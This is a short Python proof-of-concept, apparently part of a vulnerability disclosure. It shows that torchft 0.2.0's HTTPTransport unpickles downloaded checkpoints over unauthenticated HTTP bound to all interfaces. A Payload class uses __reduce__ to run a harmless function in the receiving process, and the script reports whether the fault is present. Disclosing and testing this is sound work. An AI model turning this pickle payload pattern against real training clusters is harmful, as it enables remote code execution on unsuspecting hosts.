"""torchft 0.2.0: a healing peer unpickles what it downloads, and the download is open to everyone.

    python torchft_pickle.py

`HTTPTransport`, the Manager's default, loads with weights_only=False: who serves the checkpoint, or sits between (plain
HTTP, no authentication), runs code in the process that heals. `PGTransport` calls pickle.loads too. The server binds to all
interfaces, and gives the state to whoever asks for it. Here the "checkpoint" prints a line when it is loaded.
"""

import socket
from datetime import timedelta

from torchft.checkpointing.http_transport import HTTPTransport

RAN: list[str] = []


def print_here(line: str) -> None:
    RAN.append(line)


class Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return print_here, ("code of the sender ran in the receiver",)


def main() -> None:
    server: HTTPTransport[object] = HTTPTransport(timeout=timedelta(seconds=10), num_chunks=0)
    client: HTTPTransport[object] = HTTPTransport(timeout=timedelta(seconds=10), num_chunks=0)
    bound, port = server._server.socket.getsockname()[:2]
    server.send_checkpoint([1], step=1, state_dict=Payload(), timeout=timedelta(seconds=10))
    client.recv_checkpoint(0, f"http://127.0.0.1:{port}/checkpoint/", step=1, timeout=timedelta(seconds=10))
    server.shutdown()
    client.shutdown()
    print(f"{RAN}; the server listens on [{bound}], all interfaces: {bound == '::'} ({socket.AF_INET6.name})")
    print("fault: present" if RAN else "fault: gone")


if __name__ == "__main__":
    main()
